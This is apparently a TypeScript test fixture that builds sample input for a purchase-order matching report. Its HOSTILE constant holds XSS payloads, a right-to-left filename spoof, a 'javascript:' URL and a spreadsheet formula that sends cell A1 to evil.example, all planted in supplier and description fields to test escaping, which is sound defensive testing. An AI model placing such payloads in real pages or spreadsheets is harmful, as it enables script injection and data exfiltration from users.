import type { CompleteSettings, MatchSummary, Outcome, OutcomeStatus, PurchaseOrder, Transaction } from '../../../../domain/matching';
import { parseSettings } from '../../../../domain/matching';
import type { ReportInput } from '../../../../nodes/PurchaseOrderMatch/report/buildReport';
import { purchaseOrder } from '../../../support/builders/purchaseOrder';
import { transaction } from '../../../support/builders/transaction';
import { outcome } from './outcomeBuilder';

/** Texts that try to be more than text. */
export const HOSTILE = {
	script: '<script>alert("boo")</script><img src=x onerror=alert(1)>',
	quotes: '"\'><b onmouseover="alert(1)">`',
	rightToLeft: 'Faktura \u202egnp.exe\u2069\u202c \u200fend',
	formula: '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")',
};

export function completeSettings(): CompleteSettings {
	const parsed = parseSettings({
		criteria: [
			{ kind: 'purchaseOrderNumberOnInvoice' },
			{ kind: 'purchaseOrderNumberInDescription' },
			{ kind: 'sameSupplierAndProject', action: 'propose' },
			{ kind: 'sameSupplierAndValuePercent', percent: 10 },
			{ kind: 'sameSupplierAndValueAmount', amount: 100 },
		],
	});
	if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
	return parsed.settings;
}

/** A report's input with one matched, one tied, one nearly matched, one left alone and one invalid transaction. */
export function reportInput(given: Partial<ReportInput> = {}): ReportInput {
	const transactions: Transaction[] = [
		transaction({ id: 't1', amount: '1250.00', voucherNumber: '10041', invoiceNumber: 'F-77' }),
		transaction({ id: 't2', amount: -80.5, supplier: { id: '502', name: HOSTILE.quotes }, description: HOSTILE.script, voucherNumber: '10042' }),
		transaction({ id: 't3', amount: 115, supplier: { id: '503', name: HOSTILE.formula }, description: HOSTILE.rightToLeft }),
		transaction({ id: 't4', amount: 99999, matchStatus: 'matched', supplier: null }),
		transaction({ id: 't5', amount: '12,5', currency: 'EUR', project: null, description: '+47 22 33 44 55' }),
	];
	const purchaseOrders: PurchaseOrder[] = [
		purchaseOrder({ id: 'p1', url: 'https://costtracker.example/purchase-orders/p1' }),
		purchaseOrder({ id: 'p2', number: '2021-0002', amount: 100, url: 'javascript:alert(1)' }),
	];
	const outcomes: Outcome[] = [
		outcome({
			status: 'autoMatched',
			criterion: 'purchaseOrderNumberOnInvoice',
			criterionPosition: 1,
			purchaseOrder: { id: 'p1', number: '2021-0001', url: 'https://costtracker.example/purchase-orders/p1' },
			reason: 'numberNamed',
			explanation: 'The invoice names 2021-0001.',
			warnings: [{ code: 'overInvoiced', message: 'Over by 1,150.00 NOK.', facts: {} }],
		}),
		outcome({
			status: 'needsReview',
			reason: 'severalPurchaseOrders',
			explanation: `Two purchase orders fit ${HOSTILE.script}`,
			candidates: [
				{ id: 'p1', number: '2021-0001', reason: 'severalPurchaseOrders' },
				{ id: 'p2', number: HOSTILE.quotes, reason: 'severalPurchaseOrders' },
			],
		}),
		outcome({
			reason: 'noneWithinTolerance',
			explanation: '115.00 is 15 % over 2021-0002.',
			candidates: [{ id: 'p2', number: '2021-0002', reason: 'noneWithinTolerance', difference: '15.00', differencePercent: '15' }],
		}),
		outcome({ status: 'skipped', reason: 'alreadyMatched', explanation: 'A person matched it.' }),
		outcome({ status: 'invalid', reason: 'invalidAmount', explanation: 'The amount "12,5" is no amount.' }),
	];
	return {
		transactions,
		purchaseOrders,
		outcomes,
		summary: summaryOf(outcomes),
		aloneCounts: [1, 0, 2, 3, 1],
		whatIf: null,
		settings: completeSettings(),
		settingsHash: '0123456789abcdef',
		engineVersion: '1.0.0',
		language: 'en',
		createdAt: '2026-11-05T02:00:07.000+01:00',
		...given,
	};
}

/** Counts as the engine would give them; sums are made up. */
export function summaryOf(outcomes: readonly Outcome[]): MatchSummary {
	const of = (status: OutcomeStatus): MatchSummary['status'][OutcomeStatus] => {
		const count = outcomes.filter((each) => each.status === status).length;
		return { count, sums: count === 0 ? {} : { NOK: '1250.00' } };
	};
	return {
		input: outcomes.length,
		criteria: completeSettings().criteria.map(({ kind }, index) => ({
			criterion: kind,
			position: index + 1,
			entered: outcomes.length - index,
			matched: index === 0 ? 1 : 0,
			proposed: 0,
			ambiguous: index === 3 ? 1 : 0,
			passedOn: outcomes.length - index - (index === 0 || index === 3 ? 1 : 0),
		})),
		status: {
			autoMatched: of('autoMatched'),
			needsReview: of('needsReview'),
			unmatched: of('unmatched'),
			skipped: of('skipped'),
			invalid: of('invalid'),
		},
		addsUp: true,
	};
}
